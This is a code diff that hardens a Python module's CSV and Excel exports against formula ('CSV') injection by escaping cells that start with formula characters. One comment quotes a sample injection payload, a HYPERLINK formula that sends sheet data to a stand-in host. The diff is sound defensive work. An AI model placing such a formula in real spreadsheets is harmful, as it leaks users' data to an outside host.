@@ -39,6 +39,10 @@ YEAR_KEYS = frozenset({"start_year", "end_year"})
 EXPORT_WIDTH = 720
 RESULT_COLUMNS = ("year", *OUTPUTS, "grp_baseline", "grp_vs_baseline", "grp_programme_gain")
 XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+#: First characters that make a spreadsheet read a cell as a formula ("CSV injection",
+#: OWASP): a scenario name ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would be a
+#: live link that sends the sheet's data away.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 assert sorted(SETTING_ORDER) == sorted(ALL_SETTINGS)
 
@@ -77,9 +81,42 @@ def results_frame(result: Result, lang: str) -> pd.DataFrame:
     return table.rename(columns={c: translate(lang, f"table.{c}") for c in RESULT_COLUMNS})
 
 
+def text_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text, never runs: text starting like a formula
+    gets a leading apostrophe (the spreadsheet convention for "this is text")."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def text_cells(frame: pd.DataFrame) -> pd.DataFrame:
+    """:func:`text_cell` on every text cell and column name (numbers stay numbers)."""
+    out = frame.rename(columns=text_cell)
+    for col in out.columns:
+        if not pd.api.types.is_numeric_dtype(out[col]):
+            out[col] = out[col].map(text_cell)
+    return out
+
+
+def xlsx_text_cells(book: Any) -> None:
+    """Store every text cell of an openpyxl workbook as text, never as a formula.
+
+    openpyxl makes any string that starts with "=" a formula; the text is kept exactly,
+    typed as a string, and marked with Excel's own "quote prefix" (what a leading
+    apostrophe does when typed), so that editing the cell does not turn it into one.
+    """
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
+                    if cell.value.startswith(FORMULA_STARTS):
+                        cell.quotePrefix = True
+
+
 def results_csv(result: Result, lang: str) -> bytes:
     """The results as CSV (UTF-8 with BOM, so spreadsheet programs read Cyrillic)."""
-    return results_frame(result, lang).to_csv(index=False).encode("utf-8-sig")
+    return text_cells(results_frame(result, lang)).to_csv(index=False).encode("utf-8-sig")
 
 
 def settings_frame(settings: Mapping[str, float], lang: str) -> pd.DataFrame:
@@ -128,6 +165,7 @@ def results_xlsx(settings: Mapping[str, float], meta: Mapping[str, str], result:
         settings_sheet = tr(lang, "export.sheet_settings")[:31]
         about.to_excel(xl, sheet_name=settings_sheet, index=False, header=False,
                        startrow=len(SETTING_ORDER) + 2)
+        xlsx_text_cells(xl.book)  # names and descriptions come from outside
         for ws in xl.book.worksheets:
             ws.freeze_panes = "A2"
             for i, column in enumerate(ws.iter_cols(max_row=min(ws.max_row, 40)), start=1):
